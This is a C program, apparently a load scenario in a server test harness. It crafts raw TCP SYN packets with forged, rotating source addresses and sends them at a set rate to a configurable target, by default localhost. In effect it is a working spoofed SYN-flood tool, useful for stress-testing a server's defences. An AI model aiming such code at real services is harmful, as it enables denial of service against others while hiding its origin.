// Bare SYNs from addresses that never answer, at a rate.
#include "program.h"
#include <netinet/ip.h>
#include <netinet/tcp.h>

static uint32_t add(const void *bytes, size_t length, uint32_t sum) {
	const uint8_t *at = bytes;
	for (size_t each = 0; each + 1 < length; each += 2) sum += (uint32_t)(at[each] << 8 | at[each + 1]);
	return sum;
}

static uint16_t fold(uint32_t sum) {
	while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

int main(int argc, char **argv) {
	(void)argc;
	begin(argv, 60);
	struct endpoint to = endpoint(text("address", "127.0.0.1"), number("port", 8080));
	struct sockaddr_in *server = (struct sockaddr_in *)&to.address;
	uint32_t source = ntohl(inet_addr(text("source", "198.19.0.1")));
	long rate = number("rate", 200), seconds = number("seconds", 25);
	int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (raw < 0) die("raw socket");
	struct {
		struct iphdr ip;
		struct tcphdr tcp;
	} packet = {.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP, .daddr = server->sin_addr.s_addr},
		    .tcp = {.dest = server->sin_port, .doff = 5, .syn = 1, .window = 0xffff}};
	ready();
	for (long each = 0; each < rate * seconds; each++) {
		packet.ip.saddr = htonl(source + (uint32_t)(each % 200));
		packet.tcp.source = htons((uint16_t)(1024 + each % 60000));
		packet.tcp.seq = htonl((uint32_t)each);
		packet.tcp.check = 0;
		uint32_t sum = add(&packet.ip.saddr, 8, IPPROTO_TCP + sizeof packet.tcp);
		packet.tcp.check = fold(add(&packet.tcp, sizeof packet.tcp, sum));
		if (sendto(raw, &packet, sizeof packet, 0, (struct sockaddr *)&to.address, to.length) < 0 && errno != ENOBUFS)
			die("sendto");
		pause_for(1.0 / (double)rate);
	}
}
